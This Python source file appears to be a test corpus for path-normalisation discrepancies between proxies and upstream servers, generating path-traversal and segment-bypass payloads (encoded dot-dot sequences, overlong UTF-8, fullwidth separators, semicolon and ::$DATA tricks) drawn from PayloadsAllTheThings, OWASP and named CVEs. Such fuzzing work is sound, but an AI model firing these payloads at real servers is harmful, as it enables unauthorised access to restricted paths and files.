r"""Path-attack corpus: spellings of traversals and separators that upstreams read differently.

Sources (payload *ideas*, re-typed as URL path fragments, not copied files):
  * PayloadsAllTheThings, "Directory Traversal" README and Intruders lists
    (https://github.com/swisskyrepo/PayloadsAllTheThings, MIT licence): ../ ..\ %2e%2e%2f
    %252e%252e%252f %c0%ae%c0%ae%c0%af %uff0e%uff0e%u2215 %uff0e%uff0e%u2216 ..././ ...\.\ ..%00
  * OWASP Path Traversal / WSTG-ATHZ-01 (CC BY-SA 4.0): %c0%af, %c1%9c, %e0%80%af overlong forms,
    ..%5c, double encoding.
  * Envoy advisories (Apache-2.0 project): CVE-2019-9901 (/info/../private), CVE-2021-29492
    (escaped slashes %2F/%5C), CVE-2021-31920 (Istio: // merge), CVE-2023-27487 (header
    handling, not path: left out).
  * Spring / Tomcat / Shiro (CVE-2020-1957, CVE-2020-1757, CVE-2016-9879, tyage blog):
    ;jsessionid, ..;/, /;/, %3b.
  * IIS: %u002e, trailing dots/spaces in segments, Windows "best fit" (DEVCORE "WorstFit", 2025):
    U+2215 ∕, U+2216 ∖, U+FF0F, ¥ (cp932 '\').
"""
from __future__ import annotations

DOTDOT = ["..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
          "%u002e%u002e", "%uff0e%uff0e", "%ef%bc%8e%ef%bc%8e", "..%00", "..%20", "..%09", "...", "....",
          "..;", "..%3b", "..%3B", "%2e%2e;", "..%2500", ".%00.", "..%c0%80", "..%e2%80%8b"]
SEP = ["/", "\\", "%2f", "%2F", "%5c", "%5C", "%252f", "%c0%af", "%c1%9c", "%e0%80%af", "%ef%bc%8f",
       "%e2%88%95", "%e2%88%96", "%u2215", "//", "/./", ";/", "%3b/", "%c2%a5", "%e2%81%84", "%ef%b9%a8"]

# every DOTDOT with '/' and every SEP with '..'
def traversals() -> list[str]:
    out = [d + "/" for d in DOTDOT] + ["..%s" % s for s in SEP if s != "/"]
    out += ["%2e%2e%2f", "%2e%2e%5c", "..%2f..%2f", "....//", "..././", "...\\.\\", "..\\/", ".%2e/",
            "%252e%252e%252f", "%c0%ae%c0%ae%c0%af", "%uff0e%uff0e%u2215", "%uff0e%uff0e%u2216",
            "..%255c", "%%32%65%%32%65/", "..%%32%66", "..%u2215", "..%c0%2f", ".%u002e/"]
    seen, uniq = set(), []
    for t in out:
        if t not in seen:
            seen.add(t); uniq.append(t)
    return uniq

# spellings of a segment NAME that some upstream may read as NAME (prefix tricks)
def segment_tricks(name: str) -> list[str]:
    a, rest = name[0], name[1:]
    return [name.upper(), name.capitalize(), "%" + format(ord(a), "02x") + rest, "%" + format(ord(a), "02X") + rest,
            "%25" + format(ord(a), "02x") + rest, name + ".", name + "..", name + "%2e", name + "%20",
            name + "%09", name + "%00", name + "%0a", name + "%0d", name + ";", name + ";x=1", name + "%3b",
            name + "%3bx", name + "~", name + "::$DATA", name + "%ef%bc%8e", name + "%c0%ae", name + "?",
            name + "%3f", name + "%23", name + "#", "%ef%bd%81" + rest if a == "a" else name,  # fullwidth a
            name[:-1] + "%" + format(ord(name[-1]), "02x"), name + "%2f", name + "%5c", name + "\\", name + " ",
            name + "/.", name + "%e2%80%8b",  # zero width space
            ]

PREFIXES = ["//", "///", "/./", "/%2e/", "/;/", "/;x/", "/%2f", "/%5c", "\\", "/.;/", "/x/../", "/x/..;/",
            "/%252e/", "/%2e%2e/", "/../", "/..%2f", "/..%5c", "/.%2e/"]
